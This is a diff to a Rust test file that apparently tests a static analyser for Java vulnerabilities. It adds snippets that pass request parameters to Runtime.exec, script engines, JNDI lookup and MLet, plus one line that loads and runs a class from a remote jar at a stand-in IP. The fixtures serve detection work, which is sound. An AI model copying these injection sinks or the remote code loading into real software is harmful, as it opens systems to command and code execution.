@@ -133,6 +133,14 @@ fn flows() {
             "Command Runtime.exec Parameter a Whole",
         ),
         (
+            r#"Optional.ofNullable(request.getParameter("a")).map(s -> Runtime.getRuntime().exec(s));"#,
+            "Command Runtime.exec Parameter a Whole",
+        ),
+        (
+            r#"Stream.of(request.getParameter("a")).map(s -> s.trim()).forEach(s -> Runtime.getRuntime().exec(s));"#,
+            "Command Runtime.exec Parameter a Whole",
+        ),
+        (
             r#"new Thread(new Runnable() { public void run() { Runtime.getRuntime().exec(request.getParameter("a")); } }).start();"#,
             "Command Runtime.exec Parameter a Whole",
         ),
@@ -227,6 +235,11 @@ fn code() {
             r#"ExpressionFactory f = x.getExpressionFactory(); f.createValueExpression(c, request.getParameter("a"), String.class).getValue(c);"#,
             "Code Expression.getValue Parameter a Whole",
         ),
+        (
+            r#"ScriptEngine e = new ScriptEngineManager().getEngineByName("js"); ((Invocable) e).invokeFunction("f", request.getParameter("a"));"#,
+            "Invoke Invocable.invokeFunction Parameter a Whole also",
+        ),
+        (r#"new JellyContext().runScript(request.getParameter("a"), o);"#, "Code JellyContext.runScript Parameter a Whole"),
         (r#"MVEL.eval(request.getParameter("a"));"#, "Code MVEL.eval Parameter a Whole"),
         (r#"JShell.builder().build().eval(request.getParameter("a"));"#, "Code JShell.eval Parameter a Whole"),
         (
@@ -271,6 +284,15 @@ fn loading() {
             r#"TemplatesImpl t = new TemplatesImpl(); Field f = t.getClass().getDeclaredField("_bytecodes"); f.set(t, new byte[][]{request.getParameter("a").getBytes()}); t.newTransformer();"#,
             "Load TemplatesImpl.newTransformer Parameter a Whole",
         ),
+        (
+            r#"URLClassLoader.newInstance(new URL[]{new URL("http://192.0.2.1/a.jar")}).loadClass("X").newInstance();"#,
+            "Load URLClassLoader.loadClass Remote  Whole",
+        ),
+        (
+            r#"new URLClassLoader(new URL[]{new URL("file:/a.jar")}).loadClass("X").newInstance();"#,
+            "Load URLClassLoader.loadClass",
+        ),
+        (r#"new MLet().getMBeansFromURL(request.getParameter("a"));"#, "Load MLet.getMBeansFromURL Parameter a Whole"),
         (r#"new InitialContext().lookup(request.getParameter("a"));"#, "Load InitialContext.lookup Parameter a Whole"),
         (r#"new InitialContext().lookup("java:comp/env/a");"#, ""),
     ]);
